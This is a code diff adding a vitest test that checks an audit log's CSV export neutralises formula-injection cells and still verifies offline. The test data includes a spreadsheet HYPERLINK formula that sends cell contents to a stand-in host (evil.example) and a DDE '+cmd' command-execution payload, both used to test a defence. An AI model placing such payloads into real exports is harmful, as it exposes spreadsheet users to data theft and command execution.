@@ -4,6 +4,7 @@
  * no database, no API) accepts it, and names the line of any tampering.
  */
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { parseCsv } from "../../core/audit/csv.ts";
 import { verifyAuditExport } from "../../scripts/verify-audit-export.ts";
 import { startTestStack, type TestStack } from "../harness/testStack.ts";
 
@@ -59,5 +60,32 @@ describe("audit export, verified offline", () => {
     const dropped = lines.filter((_, j) => j !== i);
     expect(await verifyAuditExport(dropped.join("\n"))).toMatchObject({ ok: false, line: i + 1, reason: "prev_hash_mismatch" });
     expect(await verifyAuditExport(lines.slice(0, -1).join("\n"))).toMatchObject({ ok: false, reason: "trailer_missing" });
+  });
+});
+
+describe("audit export, CSV with hostile cells (issue 12, item 5)", () => {
+  it("a hostile User-Agent and URL id are neutralised in the CSV export, and the file still verifies offline", async () => {
+    const hostileAgent = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const headers = { authorization: `Bearer ${token}`, "content-type": "application/json", "user-agent": hostileAgent };
+    expect((await fetch(`${stack.apiUrl}/api/clusters`, { method: "POST", headers, body: JSON.stringify({ name: "audit-hostile" }) })).status).toBe(201);
+    // A rejected request whose audit row carries the id from the URL.
+    const rejected = await fetch(`${stack.apiUrl}/api/clusters/${encodeURIComponent("@SUM(1+1)")}`, { method: "DELETE", headers: { ...headers, "user-agent": "+cmd|' /C calc'!A0" } });
+    expect(rejected.status).toBeGreaterThanOrEqual(400);
+
+    const res = await call("GET", "/api/audit/export?format=csv");
+    expect(res.status).toBe(200);
+    const text = await res.text();
+    const [header, ...records] = parseCsv(text);
+    records.pop();
+    const col = (name: string) => header!.findIndex((f) => f.text === name);
+    const mine = records.find((r) => r[col("user_agent")]!.text.includes("HYPERLINK"))!;
+    expect(mine[col("user_agent")]!.text).toBe(`'${hostileAgent}`);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    // Nowhere in the file does a cell start with a formula trigger.
+    for (const r of records) for (const f of r) expect(/^[=+\-@\t\r]/.test(f.text), JSON.stringify(f.text)).toBe(false);
+    expect(records.some((r) => r[col("user_agent")]!.text === "'+cmd|' /C calc'!A0")).toBe(true);
+
+    const result = await verifyAuditExport(text);
+    expect(result).toMatchObject({ ok: true, fromGenesis: true, rows: records.length });
   });
 });
